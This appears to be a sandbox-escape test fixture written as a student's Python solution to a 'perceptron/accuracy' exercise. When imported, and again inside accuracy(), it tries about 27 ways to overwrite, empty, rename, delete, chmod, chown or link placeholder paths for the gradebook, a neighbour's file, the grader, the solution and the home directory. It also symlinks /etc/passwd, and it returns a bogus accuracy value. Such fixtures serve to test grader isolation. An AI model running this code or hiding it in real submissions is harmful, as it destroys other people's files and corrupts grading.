"""Overwrites, empties, renames, removes, links and marks the gradebook, the neighbour's file and the course.

Exercise: perceptron/accuracy
"""

import ctypes, fcntl, mmap, os, pathlib, shutil

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


LIBC = ctypes.CDLL(None, use_errno=True)


def ways(path):
    beside = os.path.dirname(path) + "/@MARK@"
    return {
        "write": lambda: open(path, "w").write("mine"),
        "append": lambda: open(path, "ab").write(b"mine"),
        "update": lambda: open(path, "r+").write("mine"),
        "new": lambda: open(beside, "x").write("mine"),
        "os": lambda: os.write(os.open(path, os.O_WRONLY), b"mine"),
        "emptied": lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
        "made": lambda: os.open(beside, os.O_RDONLY | os.O_CREAT),
        "nameless": lambda: os.write(os.open(os.path.dirname(path), os.O_TMPFILE | os.O_RDWR), b"mine"),
        "libc": lambda: LIBC.creat(path.encode(), 0o777) < 0 and 1 / 0,
        "truncate": lambda: os.truncate(path, 0),
        "rename": lambda: os.rename(path, beside),
        "replace": lambda: os.replace(__file__, path),
        "link": lambda: os.link(path, beside),
        "symlink": lambda: os.symlink("/etc/passwd", beside),
        "unlink": lambda: os.unlink(path),
        "rmtree": lambda: shutil.rmtree(os.path.dirname(path)),
        "chmod": lambda: os.chmod(path, 0o777),
        "chown": lambda: os.chown(path, 12345, 12345),
        "utime": lambda: os.utime(path, (0, 0)),
        "mkdir": lambda: os.mkdir(beside),
        "mkfifo": lambda: os.mkfifo(beside),
        "mknod": lambda: os.mknod(beside),
        "setxattr": lambda: os.setxattr(path, "user.mine", b"mine"),
        "touch": lambda: pathlib.Path(beside).touch(),
        "mapped": lambda: mmap.mmap(os.open(path, os.O_RDWR), 0)[:4],
        "allocate": lambda: os.posix_fallocate(os.open(path, os.O_RDONLY), 0, 1 << 20),
        "lock": lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX),
    }


for PATH in ("@GRADEBOOK@", "@NEIGHBOUR@", "@GRADER@", "@SOLUTION@", "@HOME@"):
    LOOT.append((tried(ways(PATH)),))
# end


def accuracy(y_hat, y):
    # attack
    print(*LOOT, sep="\n")
    for path in ("@GRADEBOOK@", "@NEIGHBOUR@", "@GRADER@", "@SOLUTION@", "@HOME@"):
        print(tried(ways(path)))
    # end
    return 0.123


def predict_classes(y_hat):
    return y_hat
